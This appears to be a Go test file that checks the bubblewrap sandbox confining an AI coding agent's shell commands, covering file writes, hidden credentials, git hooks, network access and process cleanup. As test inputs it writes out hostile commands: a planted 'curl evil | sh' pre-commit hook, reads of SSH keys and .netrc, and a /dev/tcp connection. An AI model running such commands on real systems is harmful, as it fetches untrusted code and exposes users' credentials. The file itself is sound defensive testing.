//go:build linux

package builtin_test

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/kin-dev/kin/agent/builtin"
	"github.com/kin-dev/kin/agent/sandbox"
	"github.com/kin-dev/kin/agent/tool"
)

// These tests run real commands under bubblewrap. Without bwrap they skip,
// unless KIN_REQUIRE_BWRAP=1 (as .ci/test-all.sh sets it): then they fail.

// confined returns tool options whose sandbox hides home and confines
// commands, or skips the test where there is no sandbox.
func confined(t *testing.T, cfg sandbox.Config) builtin.Options {
	t.Helper()
	if want := os.Getenv("KIN_TEST_EXPECT_UID"); want != "" && strconv.Itoa(os.Getuid()) != want {
		t.Fatalf("running as uid %d, want %s", os.Getuid(), want)
	}
	sb := sandbox.New(cfg)
	if st := sb.Status(); !st.Confined {
		if os.Getenv("KIN_REQUIRE_BWRAP") == "1" {
			t.Fatalf("KIN_REQUIRE_BWRAP=1 but commands cannot be confined: %s", st.Reason)
		}
		t.Skipf("no sandbox here: %s", st.Reason)
	}
	return builtin.Options{Sandbox: sb}
}

// outsideDir is a folder outside the workspace and outside /tmp (which the
// sandbox replaces with a private one, so a path there proves nothing).
func outsideDir(t *testing.T) string {
	t.Helper()
	d, err := os.MkdirTemp("/var/tmp", "kin-outside-")
	if err != nil {
		t.Skipf("no folder outside /tmp to test with: %v", err)
	}
	d, _ = filepath.EvalSymlinks(d)
	os.Chmod(d, 0o777) // the ordinary-user run writes here too
	t.Cleanup(func() { os.RemoveAll(d) })
	return d
}

// runIn prepares and runs a bash call in the workspace env.
func runIn(t *testing.T, opts builtin.Options, env tool.Env, args map[string]any) (*tool.Approval, tool.Result) {
	t.Helper()
	a, err := prepareWith(t, "bash", opts, env, args)
	if err != nil {
		t.Fatal(err)
	}
	return a.Approval, a.Run(context.Background(), nil)
}

func TestSandboxCannotWriteOutsideTheRoots(t *testing.T) {
	opts := confined(t, sandbox.Config{})
	_, env := workspace(t)
	out := outsideDir(t)
	target := filepath.Join(out, "escaped")
	ap, r := runIn(t, opts, env, map[string]any{"command": "echo x > " + target})
	wantStatus(t, r, tool.StatusFailed)
	wantContains(t, r.Output, "Read-only file system", "ran in kin's sandbox", "may change only "+env.Roots[0])
	if _, err := os.Stat(target); err == nil {
		t.Fatalf("%s was written from inside the sandbox", target)
	}
	if !ap.Sandbox.Confined || ap.Sandbox.Network || len(ap.Sandbox.Writable) != 1 || ap.Sandbox.Writable[0] != env.Roots[0] {
		t.Fatalf("approval sandbox %+v", ap.Sandbox)
	}
	if ap.Warning != "" || ap.Grant != nil { // a redirection: no grant
		t.Fatalf("approval %+v", ap)
	}
}

func TestSandboxWritesTheWorkspaceAndItsTempDir(t *testing.T) {
	opts := confined(t, sandbox.Config{})
	root, env := workspace(t)
	name := fmt.Sprintf("kin-private-%d", rand.Int64())
	_, r := runIn(t, opts, env, map[string]any{"command": `echo a > made && mkdir -p sub && echo b > sub/too && echo t > "$TMPDIR/` + name + `" && cat "$TMPDIR/` + name + `" && echo "tmp=$TMPDIR"`})
	wantStatus(t, r, tool.StatusCompleted)
	wantContains(t, r.Output, "t\ntmp=/tmp\n")
	for name, want := range map[string]string{"made": "a\n", "sub/too": "b\n"} {
		if b, err := os.ReadFile(filepath.Join(root, name)); err != nil || string(b) != want {
			t.Fatalf("%s: %q %v", name, b, err)
		}
	}
	// the temporary directory was the command's own
	if _, err := os.Stat(filepath.Join(os.TempDir(), name)); err == nil {
		t.Fatal("the command's temporary file is in the host's temporary directory")
	}
}

func TestSandboxCannotReadKinHome(t *testing.T) {
	root, env := workspace(t)
	// one $KIN_HOME inside the workspace (writable and visible but for the
	// rule that hides it), one outside /tmp
	for _, home := range []string{filepath.Join(root, "kinhome"), filepath.Join(outsideDir(t), "kinhome")} {
		if err := os.MkdirAll(home, 0o700); err != nil {
			t.Fatal(err)
		}
		files(t, home, map[string]string{"settings.json": `{"openaiApiKey":"sk-canary-home"}`})
		opts := confined(t, sandbox.Config{Hidden: []string{home}})
		_, r := runIn(t, opts, env, map[string]any{"command": "ls -A " + home + "; cat " + home + "/settings.json; echo x > " + home + "/planted"})
		wantStatus(t, r, tool.StatusFailed)
		wantNotContains(t, r.Output, "sk-canary-home", "settings.json\n")
		wantContains(t, r.Output, "No such file or directory")
		if _, err := os.Stat(filepath.Join(home, "planted")); err == nil {
			t.Fatalf("a command wrote into %s", home)
		}
	}
}

func TestSandboxCacheInsideKinHomeStaysWritable(t *testing.T) {
	home := filepath.Join(outsideDir(t), "kinhome")
	cache := filepath.Join(home, "cache", "sandbox")
	files(t, home, map[string]string{"grants.json": "[]"})
	opts := confined(t, sandbox.Config{Hidden: []string{home}, Cache: cache})
	_, env := workspace(t)
	ap, r := runIn(t, opts, env, map[string]any{"command": `echo c > "$XDG_CACHE_HOME/entry" && echo "go=$GOCACHE" && cat ` + home + `/grants.json`})
	wantStatus(t, r, tool.StatusFailed) // grants.json is hidden
	// one cache folder per workspace (opts.Sandbox.CacheFor)
	cache = opts.Sandbox.CacheFor(env.Roots)
	wantContains(t, r.Output, "go="+cache+"/go-build\n")
	if b, err := os.ReadFile(filepath.Join(cache, "entry")); err != nil || string(b) != "c\n" {
		t.Fatalf("cache entry: %q %v", b, err)
	}
	if len(ap.Sandbox.Writable) != 2 || ap.Sandbox.Writable[1] != cache {
		t.Fatalf("writable %v", ap.Sandbox.Writable)
	}
}

func TestSandboxHidesHomeCredentials(t *testing.T) {
	home := outsideDir(t)
	files(t, home, map[string]string{".ssh/id_ed25519": "PRIVATE KEY canary", ".netrc": "machine x password canary2", ".gitconfig": "[user]\n\tname = Ana\n"})
	t.Setenv("HOME", home)
	opts := confined(t, sandbox.Config{})
	_, env := workspace(t)
	_, r := runIn(t, opts, env, map[string]any{"command": `cat ~/.gitconfig; cat ~/.ssh/id_ed25519; cat ~/.netrc; echo "ssh=[$(ls -A ~/.ssh)]"`})
	wantContains(t, r.Output, "name = Ana", "ssh=[]") // the rest of home is readable
	wantNotContains(t, r.Output, "canary")
}

func TestSandboxKeepsGitInternalsAndKinConfigReadOnly(t *testing.T) {
	opts := confined(t, sandbox.Config{})
	root, env := workspace(t)
	files(t, root, map[string]string{
		".git/HEAD": "ref: refs/heads/main\n", ".git/config": "[core]\n", ".git/hooks/README": "",
		".git/objects/.keep": "", ".kin/mcp.json": "{}", ".env": "TOKEN=1\n", "svc/.env": "TOKEN=2\n",
	})
	for _, cmd := range []string{
		"echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
		"echo '[core]\n\thooksPath = /tmp' >> .git/config",
		"mv .git .git-aside",
		"rm -rf .git/hooks",
		`echo '{"mcpServers":{}}' > .kin/mcp.json`,
		"echo TOKEN=3 > .env",
		"echo TOKEN=4 > svc/.env",
	} {
		_, r := runIn(t, opts, env, map[string]any{"command": cmd})
		if r.Status != tool.StatusFailed {
			t.Errorf("%s: %s\n%s", cmd, r.Status, r.Output)
		}
	}
	for name, want := range map[string]string{".git/config": "[core]\n", ".kin/mcp.json": "{}", ".env": "TOKEN=1\n", "svc/.env": "TOKEN=2\n"} {
		if b, _ := os.ReadFile(filepath.Join(root, name)); string(b) != want {
			t.Errorf("%s changed: %q", name, b)
		}
	}
	if _, err := os.Stat(filepath.Join(root, ".git", "hooks", "pre-commit")); err == nil {
		t.Error("a hook was planted")
	}
	// the rest of .git is writable: git add and commit work
	_, r := runIn(t, opts, env, map[string]any{"command": "echo blob > .git/objects/new && cat .env"})
	wantStatus(t, r, tool.StatusCompleted)
	wantContains(t, r.Output, "TOKEN=1")
}

// loopback starts a TCP listener that greets whoever connects and reports
// each connection.
func loopback(t *testing.T) (string, <-chan struct{}) {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	conns := make(chan struct{}, 8)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns <- struct{}{}
			io.WriteString(c, "hello from the host\n")
			c.Close()
		}
	}()
	return ln.Addr().(*net.TCPAddr).String(), conns
}

func TestSandboxNetworkOnlyWhenAsked(t *testing.T) {
	opts := confined(t, sandbox.Config{})
	_, env := workspace(t)
	addr, conns := loopback(t)
	host, port, _ := net.SplitHostPort(addr)
	connect := fmt.Sprintf("exec 3<>/dev/tcp/%s/%s && cat <&3", host, port)

	ap, r := runIn(t, opts, env, map[string]any{"command": connect})
	wantStatus(t, r, tool.StatusFailed)
	wantNotContains(t, r.Output, "hello from the host")
	wantContains(t, r.Output, "it has no network: ask again with network: true")
	if ap.Sandbox.Network {
		t.Fatalf("sandbox %+v", ap.Sandbox)
	}

	ap, r = runIn(t, opts, env, map[string]any{"command": connect, "network": true})
	wantStatus(t, r, tool.StatusCompleted)
	wantContains(t, r.Output, "hello from the host")
	if !ap.Sandbox.Confined || !ap.Sandbox.Network {
		t.Fatalf("sandbox %+v", ap.Sandbox)
	}
	wantContains(t, ap.Warning, "With network access")
	select {
	case <-conns:
	default:
		t.Fatal("the listener saw no connection")
	}
	select {
	case <-conns:
		t.Fatal("the listener saw a connection from the command without network")
	default:
	}
}

func TestSandboxGrantScopes(t *testing.T) {
	opts := confined(t, sandbox.Config{AutoApprove: true})
	_, env := workspace(t)
	for _, c := range []struct {
		network  bool
		key      string
		label    string
		autoEdit bool
	}{
		{false, "bash:go test", "Always allow `go test` commands", true},
		{true, "bash-net:go test", "Always allow `go test` commands with network access", false},
	} {
		a, err := prepareWith(t, "bash", opts, env, map[string]any{"command": "go test ./...", "network": c.network})
		if err != nil {
			t.Fatal(err)
		}
		if g := a.Approval.Grant; g == nil || g.Key != c.key || g.Label != c.label || a.Approval.AutoEditAllows != c.autoEdit {
			t.Errorf("network %v: grant %+v autoEdit %v", c.network, g, a.Approval.AutoEditAllows)
		}
	}
	// without the setting, nothing is for auto-edit
	a, _ := prepareWith(t, "bash", confined(t, sandbox.Config{}), env, map[string]any{"command": "ls"})
	if a.Approval.AutoEditAllows {
		t.Error("auto-edit may run a command without autoApproveSandboxedCommands")
	}
}

// sandboxed lists the host pids of the processes whose command line holds
// token, with whether each is in another PID namespace than this test.
func sandboxed(t *testing.T, token string) map[int]bool {
	t.Helper()
	self, _ := os.Readlink("/proc/self/ns/pid")
	out := map[int]bool{}
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if err != nil || !bytes.Contains(b, []byte(token)) || !alive(pid) {
			continue
		}
		ns, _ := os.Readlink(fmt.Sprintf("/proc/%d/ns/pid", pid))
		out[pid] = ns != self
	}
	return out
}

func TestSandboxCancelKillsThePIDNamespace(t *testing.T) {
	opts := confined(t, sandbox.Config{})
	_, env := workspace(t)
	// one sleeper in the command's process group, one that left it
	// (setsid): only the namespace catches the second
	token := fmt.Sprintf("%d.%03d", 4000+rand.IntN(1000), rand.IntN(1000))
	a, err := prepareWith(t, "bash", opts, env, map[string]any{"command": "sleep " + token + " & setsid sleep " + token + " & echo started; wait"})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	started := make(chan struct{})
	var once sync.Once
	done := make(chan tool.Result)
	go func() {
		done <- a.Run(ctx, func(s string) {
			if strings.Contains(s, "started") {
				once.Do(func() { close(started) })
			}
		})
	}()
	select {
	case <-started:
	case <-time.After(10 * time.Second):
		t.Fatal("the command did not start")
	}
	var pids map[int]bool
	for deadline := time.Now().Add(5 * time.Second); len(pids) < 2 && time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		pids = sandboxed(t, "sleep\x00"+token)
	}
	if len(pids) != 2 {
		t.Fatalf("want two sleepers running, found %v", pids)
	}
	for pid, other := range pids {
		if !other {
			t.Fatalf("sleeper %d shares this test's PID namespace", pid)
		}
	}
	cancel()
	var r tool.Result
	select {
	case r = <-done:
	case <-time.After(10 * time.Second):
		t.Fatal("Run did not return after cancel")
	}
	wantStatus(t, r, tool.StatusFailed)
	wantContains(t, r.Output, "killed by kin after the turn was cancelled")
	// Run returns once nothing of the command runs: no waiting here.
	for pid := range pids {
		if alive(pid) {
			t.Errorf("sleeper %d still running after cancel", pid)
		}
	}
}

// TestSandboxAsOrdinaryUser runs the confinement tests again as nobody,
// when this test runs as root: bubblewrap then needs a user namespace of
// its own, which is the path every ordinary user takes.
func TestSandboxAsOrdinaryUser(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("already an ordinary user")
	}
	confined(t, sandbox.Config{})
	setpriv, err := exec.LookPath("setpriv")
	if err != nil {
		t.Skip("no setpriv to become nobody")
	}
	// the test binary, where nobody may run it
	dir := outsideDir(t)
	self, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(dir, "builtin.test")
	b, err := os.ReadFile(self)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(bin, b, 0o755); err != nil {
		t.Fatal(err)
	}
	tmp := filepath.Join(dir, "tmp")
	if err := os.Mkdir(tmp, 0o777); err != nil {
		t.Fatal(err)
	}
	os.Chmod(tmp, 0o777) // past the umask
	cmd := exec.Command(setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", bin, "-test.v", "-test.count=1",
		"-test.run=^(TestSandboxCannotWriteOutsideTheRoots|TestSandboxWritesTheWorkspaceAndItsTempDir|TestSandboxNetworkOnlyWhenAsked|TestSandboxCancelKillsThePIDNamespace)$")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "KIN_REQUIRE_BWRAP=1", "KIN_TEST_EXPECT_UID=65534", "TMPDIR="+tmp, "HOME="+tmp)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("as nobody: %v\n%s", err, out)
	}
	sc := bufio.NewScanner(bytes.NewReader(out))
	passed := 0
	for sc.Scan() {
		if strings.HasPrefix(sc.Text(), "--- PASS") {
			passed++
		}
	}
	if passed != 4 {
		t.Fatalf("as nobody, %d of 4 tests passed:\n%s", passed, out)
	}
}
